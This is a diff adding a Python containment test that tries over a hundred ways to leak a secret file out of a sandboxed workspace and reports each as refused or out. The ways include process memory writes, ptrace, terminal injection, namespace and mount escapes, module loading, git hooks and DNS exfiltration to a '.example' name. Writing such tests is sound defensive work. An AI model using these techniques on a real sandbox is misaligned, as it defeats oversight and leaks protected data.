@@ -1,0 +1,761 @@
+"""Runs contained, and tries to move the content of a file in the workspace out, in every way that
+we could think of. Prints a line for each: its name, a tab, and `refused` with the error or `OUT`.
+
+Its first argument is a JSON file that the test outside wrote: where things are outside. With more
+arguments it tries these ways alone.
+"""
+import ctypes
+import errno
+import json
+import mmap
+import os
+import signal
+import socket
+import subprocess
+import sys
+
+FACTS = json.load(open(sys.argv[1]))
+OUTSIDE, PLAN, WORKSPACE = FACTS["outside"], FACTS["plan"], FACTS["workspace"]
+SECRET = open(PLAN, "rb").read()
+libc = ctypes.CDLL(None, use_errno=True)
+ways = {}
+
+
+class Refused(Exception):
+    """In a way that is no error of the system's."""
+
+
+def way(function):
+    ways[function.__name__] = function
+    return function
+
+
+def outside(name):
+    return os.path.join(OUTSIDE, name)
+
+
+def syscall(number, *arguments):
+    """x86_64's numbers."""
+    # On the stack an int would have garbage beside it.
+    result = libc.syscall(*(
+        ctypes.c_long(word) if isinstance(word, int) else word for word in (number, *arguments)))
+    if result < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+
+
+def command(*words, **options):
+    """Refused if it fails."""
+    options = {"stdin": subprocess.DEVNULL, "capture_output": True, "timeout": 20, **options}
+    try:
+        done = subprocess.run(words, **options)
+    except FileNotFoundError:
+        raise Refused(f"there is no {words[0]}") from None
+    except subprocess.TimeoutExpired:
+        raise Refused("it did not end") from None
+    if done.returncode != 0:
+        raise Refused(f"status {done.returncode}: {(done.stderr or b'')[-60:]!r}")
+
+
+def put(path, flags=os.O_WRONLY):
+    file = os.open(path, flags, 0o600)
+    os.write(file, SECRET)
+    os.close(file)
+
+
+# Names and content of files
+
+
+@way
+def create_a_file():
+    put(outside("new"), os.O_WRONLY | os.O_CREAT)
+
+
+@way
+def append_to_a_file():
+    put(outside("kept"), os.O_WRONLY | os.O_APPEND)
+
+
+@way
+def open_for_both():
+    put(outside("kept"), os.O_RDWR)
+
+
+@way
+def map_a_file_shared():
+    file = os.open(outside("kept"), os.O_RDWR)
+    mmap.mmap(file, 4096)[:len(SECRET)] = SECRET
+
+
+@way
+def map_a_file_that_is_open_for_reading():
+    mmap.mmap(os.open(outside("kept"), os.O_RDONLY), 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)
+
+
+@way
+def truncate_a_file():
+    os.truncate(outside("kept"), 1)
+
+
+@way
+def truncate_while_opening():
+    os.open(outside("kept"), os.O_RDONLY | os.O_TRUNC)
+
+
+@way
+def link_out():
+    os.link(PLAN, outside("linked"))
+
+
+@way
+def rename_out():
+    os.rename(FACTS["second"], outside("renamed"))
+
+
+@way
+def rename_a_file_outside():
+    os.rename(outside("kept"), outside(SECRET.decode()[:60]))
+
+
+@way
+def make_a_symbolic_link():
+    os.symlink(SECRET[:60], outside("symbolic"))
+
+
+@way
+def make_a_directory():
+    os.mkdir(outside(SECRET.decode()[:60]))
+
+
+@way
+def make_a_node():
+    os.mknod(outside("node"))
+
+
+@way
+def make_a_fifo():
+    os.mkfifo(outside("made-fifo"))
+
+
+@way
+def remove_a_file():
+    os.unlink(outside("kept"))
+
+
+@way
+def remove_a_directory():
+    os.rmdir(outside("empty"))
+
+
+@way
+def make_a_file_without_a_name():
+    put(OUTSIDE, os.O_WRONLY | os.O_TMPFILE)
+
+
+@way
+def write_to_tmp():
+    put("/tmp/mamd-contained-leak", os.O_WRONLY | os.O_CREAT)
+
+
+@way
+def write_to_shared_memory():
+    put("/dev/shm/mamd-contained-leak", os.O_WRONLY | os.O_CREAT)
+
+
+@way
+def write_at_home():
+    put(os.path.join(os.path.expanduser("~"), ".mamd-leak"), os.O_WRONLY | os.O_CREAT)
+
+
+@way
+def copy_with_cp():
+    command("cp", PLAN, outside("copied"))
+
+
+@way
+def copy_with_dd():
+    command("dd", f"if={PLAN}", f"of={outside('dd')}")
+
+
+@way
+def archive_with_tar():
+    command("tar", "-cf", outside("tar"), PLAN)
+
+
+@way
+def copy_file_range():
+    target = os.open(outside("range"), os.O_WRONLY | os.O_CREAT)
+    os.copy_file_range(os.open(PLAN, os.O_RDONLY), target, 100)
+
+
+@way
+def write_to_a_fifo():
+    put(outside("fifo"), os.O_WRONLY | os.O_NONBLOCK)
+
+
+# Attributes
+
+
+@way
+def set_an_attribute():
+    os.setxattr(outside("kept"), "user.leak", SECRET)
+
+
+@way
+def set_an_attribute_of_a_link():
+    os.setxattr(outside("kept"), "user.leak", SECRET, follow_symlinks=False)
+
+
+@way
+def set_an_attribute_of_an_open_file():
+    os.setxattr(os.open(outside("kept"), os.O_RDONLY), "user.leak", SECRET)
+
+
+@way
+def set_an_attribute_with_setxattrat():
+    arguments = (ctypes.c_uint64 * 2)(ctypes.cast(SECRET, ctypes.c_void_p).value, len(SECRET))
+    syscall(463, -100, outside("kept").encode(), 0, b"user.leak", arguments, 16)
+
+
+@way
+def set_an_acl():
+    command("setfacl", "-m", "u:1234:r", outside("kept"))
+
+
+@way
+def set_file_attributes():
+    syscall(469, -100, outside("kept").encode(), ctypes.create_string_buffer(24), 24, 0)
+
+
+# Other processes
+
+
+@way
+def trace_a_process():
+    if libc.ptrace(16, FACTS["process"], 0, 0) < 0:  # PTRACE_ATTACH
+        raise OSError(ctypes.get_errno(), "ptrace")
+
+
+@way
+def write_memory_of_a_process():
+    class Vector(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+    mine = Vector(ctypes.cast(SECRET, ctypes.c_void_p), len(SECRET))
+    theirs = Vector(FACTS["address"], len(SECRET))
+    syscall(311, FACTS["process"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
+
+
+@way
+def open_memory_of_a_process():
+    put(f"/proc/{FACTS['process']}/mem", os.O_WRONLY)
+
+
+@way
+def follow_the_root_of_a_process():
+    put(f"/proc/{FACTS['process']}/root{outside('by-root')}", os.O_WRONLY | os.O_CREAT)
+
+
+@way
+def follow_the_directory_of_a_process():
+    put(f"/proc/{FACTS['process']}/cwd/by-cwd", os.O_WRONLY | os.O_CREAT)
+
+
+@way
+def open_a_descriptor_of_a_process():
+    put(f"/proc/{FACTS['process']}/fd/{FACTS['descriptor']}", os.O_WRONLY)
+
+
+@way
+def get_a_descriptor_of_a_process():
+    os.write(syscall(438, os.pidfd_open(FACTS["process"]), FACTS["descriptor"], 0), SECRET)
+
+
+@way
+def signal_a_process():
+    os.kill(FACTS["process"], signal.SIGUSR1)
+
+
+@way
+def signal_by_descriptor():
+    signal.pidfd_send_signal(os.pidfd_open(FACTS["process"]), signal.SIGUSR1)
+
+
+@way
+def write_to_another_terminal():
+    put(FACTS["terminal"], os.O_WRONLY | os.O_NOCTTY)
+
+
+@way
+def type_into_the_own_terminal():
+    import fcntl
+    fcntl.ioctl(1, 0x5412, b"x")  # TIOCSTI
+
+
+@way
+def use_an_inherited_descriptor():
+    # The directory that is listed is one more.
+    more = [number for number in map(int, os.listdir("/proc/self/fd")) if number > 2]
+    for number in more:
+        try:
+            os.write(number, SECRET)
+            return
+        except OSError:
+            pass
+    raise Refused("none that can be written to")
+
+
+@way
+def be_dumped_by_the_kernel():
+    import resource
+    if resource.getrlimit(resource.RLIMIT_CORE) == (1, 1):
+        raise Refused("RLIMIT_CORE is 1")
+
+
+# The kernel's memory
+
+
+@way
+def make_a_shared_segment():
+    syscall(29, 0x6d616d64, 4096, 0o1600)  # shmget
+
+
+@way
+def make_a_message_queue():
+    syscall(68, 0x6d616d64, 0o1600)  # msgget
+
+
+@way
+def make_semaphores():
+    syscall(64, 0x6d616d64, 1, 0o1600)  # semget
+
+
+@way
+def make_a_posix_queue():
+    syscall(240, b"mamd-leak", os.O_CREAT | os.O_WRONLY, 0o600, None)  # mq_open
+
+
+@way
+def add_a_key():
+    syscall(248, b"user", b"mamd-leak", SECRET, len(SECRET), -4)  # add_key, the user's keyring
+
+
+@way
+def ask_for_keys():
+    syscall(250, 0, -4, 0)  # keyctl
+
+
+# Mounts, name spaces, the whole machine
+
+
+@way
+def mount_a_file_system():
+    if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) < 0:
+        raise OSError(ctypes.get_errno(), "mount")
+
+
+@way
+def bind_a_directory():
+    if libc.mount(OUTSIDE.encode(), WORKSPACE.encode(), None, 4096, None) < 0:
+        raise OSError(ctypes.get_errno(), "mount")
+
+
+@way
+def mount_with_the_newer_calls():
+    syscall(430, b"overlay", 0)  # fsopen
+
+
+@way
+def clone_a_mount():
+    syscall(428, -100, b"/", 1)  # open_tree
+
+
+@way
+def serve_a_file_system():
+    os.open("/dev/fuse", os.O_RDWR)
+
+
+@way
+def leave_for_a_user_name_space():
+    syscall(272, 0x10000000)  # unshare(CLONE_NEWUSER)
+
+
+@way
+def leave_with_hidden_bits():
+    syscall(272, ctypes.c_uint64(0x1_1000_0000))
+
+
+@way
+def clone_into_a_name_space():
+    if syscall(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0) == 0:
+        os._exit(0)
+
+
+@way
+def clone_with_the_newer_call():
+    syscall(435, ctypes.create_string_buffer(88), 88)
+
+
+@way
+def enter_another_name_space():
+    syscall(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0)  # setns
+
+
+@way
+def change_the_root():
+    os.chroot("/")
+
+
+@way
+def pivot_the_root():
+    syscall(155, b"/", b"/")
+
+
+@way
+def open_by_handle():
+    syscall(304, -100, ctypes.create_string_buffer(128), os.O_WRONLY)
+
+
+@way
+def account_processes():
+    syscall(163, outside("kept").encode())
+
+
+@way
+def name_the_machine():
+    syscall(170, SECRET, 10)  # sethostname
+
+
+@way
+def swap():
+    syscall(167, outside("kept").encode(), 0)
+
+
+@way
+def set_a_quota():
+    syscall(179, 0x80000800, b"none", 0, None)
+
+
+@way
+def load_a_module():
+    syscall(175, SECRET, len(SECRET), b"")
+
+
+@way
+def load_a_kernel():
+    syscall(246, 0, 0, None, 0)
+
+
+@way
+def use_io_uring():
+    syscall(425, 8, ctypes.create_string_buffer(120))
+
+
+@way
+def use_bpf():
+    syscall(321, 0, ctypes.create_string_buffer(128), 128)
+
+
+@way
+def measure_performance():
+    syscall(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)
+
+
+@way
+def handle_page_faults():
+    syscall(323, 1)
+
+
+@way
+def watch_the_file_system():
+    syscall(300, 0, 0)  # fanotify_init
+
+
+@way
+def open_with_openat2():
+    syscall(437, -100, outside("kept").encode(), (ctypes.c_uint64 * 3)(os.O_WRONLY, 0, 0), 24)
+
+
+# Sockets
+
+
+@way
+def connect_to_an_accomplice():
+    connection = socket.socket(socket.AF_UNIX)
+    connection.connect(FACTS["listener"])
+    connection.send(SECRET)
+
+
+@way
+def hand_over_a_descriptor():
+    connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    connection.connect(FACTS["listener"])
+    socket.send_fds(connection, [b"x"], [os.open(PLAN, os.O_RDONLY)])
+
+
+@way
+def connect_by_a_relative_path():
+    os.chdir(OUTSIDE)
+    try:
+        socket.socket(socket.AF_UNIX).connect(os.path.relpath(FACTS["listener"]))
+    finally:
+        os.chdir("/")
+
+
+@way
+def connect_to_an_abstract_socket():
+    connection = socket.socket(socket.AF_UNIX)
+    connection.connect("\0" + FACTS["abstract"])
+    connection.send(SECRET)
+
+
+@way
+def listen_at_a_path():
+    socket.socket(socket.AF_UNIX).bind(os.path.join(WORKSPACE, "listener"))
+
+
+@way
+def listen_at_an_abstract_socket():
+    socket.socket(socket.AF_UNIX).bind("\0mamd-leak")
+
+
+@way
+def listen_at_any_address():
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind("")
+    listener.listen()
+
+
+@way
+def send_a_datagram():
+    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(SECRET, FACTS["datagrams"])
+
+
+@way
+def send_from_a_pair():
+    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    one.sendto(SECRET, FACTS["datagrams"])
+
+
+@way
+def send_from_a_raw_socket():
+    socket.socket(socket.AF_UNIX, socket.SOCK_RAW).sendto(SECRET, FACTS["datagrams"])
+
+
+@way
+def write_to_the_log():
+    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(SECRET, "/dev/log")
+
+
+@way
+def log_with_logger():
+    command("logger", "--socket-errors=on", SECRET.decode())
+
+
+@way
+def use_the_system_bus():
+    socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket")
+
+
+@way
+def use_the_session_bus():
+    command("gdbus", "call", "--session", "-d", "org.freedesktop.DBus", "-o", "/", "-m",
+            "org.freedesktop.DBus.ListNames")
+
+
+@way
+def use_docker():
+    socket.socket(socket.AF_UNIX).connect(FACTS["docker"])
+
+
+@way
+def connect_over_tcp():
+    connection = socket.create_connection(("127.0.0.1", FACTS["port"]), timeout=5)
+    connection.send(SECRET)
+
+
+@way
+def connect_over_tcp_6():
+    connection = socket.create_connection(("::1", FACTS["port"]), timeout=5)
+    connection.send(SECRET)
+
+
+@way
+def connect_while_sending():
+    socket.socket().sendto(SECRET, 0x20000000, ("127.0.0.1", FACTS["port"]))  # MSG_FASTOPEN
+
+
+@way
+def listen_over_tcp():
+    socket.socket().listen()
+
+
+@way
+def send_over_udp():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(SECRET, ("127.0.0.1", FACTS["port"]))
+
+
+@way
+def hide_the_family():
+    number = syscall(41, ctypes.c_uint64(0x1_0000_0002), 2, 0)  # AF_INET, with more bits
+    socket.socket(fileno=number).sendto(SECRET, ("127.0.0.1", FACTS["port"]))
+
+
+@way
+def send_over_mptcp():
+    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("127.0.0.1", FACTS["port"]))
+
+
+@way
+def ping():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+
+
+@way
+def send_raw():
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+
+
+@way
+def send_packets():
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+
+
+@way
+def talk_to_the_kernel():
+    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)  # NETLINK_USERSOCK
+
+
+@way
+def talk_to_a_host():
+    socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
+
+
+@way
+def resolve_a_name():
+    socket.getaddrinfo(SECRET.decode()[:40].strip().replace(" ", "-") + ".example", 80)
+
+
+# Programs that run outside, or with more rights
+
+
+@way
+def run_at():
+    command("at", "now", input=b"touch " + outside("at").encode(), stdin=None)
+
+
+@way
+def run_by_cron():
+    command("crontab", "-", input=b"* * * * * true\n", stdin=None)
+
+
+@way
+def run_by_systemd():
+    command("systemd-run", "--user", "touch", outside("systemd"))
+
+
+@way
+def run_by_the_systems_systemd():
+    command("systemd-run", "touch", outside("systemd"))
+
+
+@way
+def run_with_sudo():
+    command("su", "-c", f"touch {outside('su')}")
+    if not os.path.exists(outside("su")):
+        raise Refused("no file")
+
+
+@way
+def run_in_a_container():
+    command("docker", "run", "debian")
+
+
+@way
+def run_from_memory():
+    memory = os.memfd_create("program")
+    with open("/bin/cp", "rb") as program:
+        os.write(memory, program.read())
+    command(f"/proc/self/fd/{memory}", PLAN, outside("memory"), pass_fds=[memory])
+
+
+@way
+def run_with_a_library():
+    command("cp", PLAN, outside("preloaded"), env={**os.environ, "LD_PRELOAD": "libm.so.6"})
+
+
+@way
+def run_by_git():
+    place = os.path.join(WORKSPACE, "repository")
+    command("git", "init", "-q", place)
+    hook = os.path.join(place, ".git", "hooks", "post-commit")
+    with open(hook, "w") as file:
+        file.write(f"#!/bin/sh\ncp {PLAN} {outside('git')}\n")
+    os.chmod(hook, 0o700)
+    command("git", "-C", place, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q",
+            "--allow-empty", "-m", "x")
+    if not os.path.exists(outside("git")):
+        raise Refused("the hook could not")
+
+
+@way
+def orphan():
+    """What nobody waits for any more is contained too."""
+    reader, writer = os.pipe()
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            try:
+                put(outside("orphan"), os.O_WRONLY | os.O_CREAT)
+                os.write(writer, b"OUT")
+            except OSError as error:
+                os.write(writer, errno.errorcode[error.errno].encode())
+        os._exit(0)
+    os.close(writer)
+    found = os.read(reader, 100)
+    if found != b"OUT":
+        raise Refused(found.decode())
+
+
+# By the workspace itself
+
+
+@way
+def act_for_another():
+    command("mamctl", "run", "--workspace", FACTS["name"], "--identity", FACTS["other"],
+            "--unmanaged", "--", "cp", PLAN, os.path.join(WORKSPACE, "given"))
+
+
+@way
+def write_to_a_file_of_the_persons():
+    put(FACTS["plain"], os.O_WRONLY)
+
+
+@way
+def make_a_fifo_in_the_workspace():
+    os.mkfifo(os.path.join(WORKSPACE, "a-fifo"))
+
+
+@way
+def make_a_node_in_the_workspace():
+    os.mknod(os.path.join(WORKSPACE, "a-socket"), 0o140600)
+
+
+@way
+def set_an_attribute_in_the_workspace():
+    os.setxattr(PLAN, "user.leak", SECRET)
+
+
+def main():
+    for name in sys.argv[2:] or ways:
+        function = ways[name]
+        try:
+            function()
+            told = "OUT"
+        except (OSError, Refused, ValueError) as error:
+            told = f"refused {type(error).__name__} {error}"
+        # A terminal turns these into line ends of its own.
+        print(name, told.replace("\n", " ").replace("\r", " "), sep="\t", flush=True)
+
+
+main()
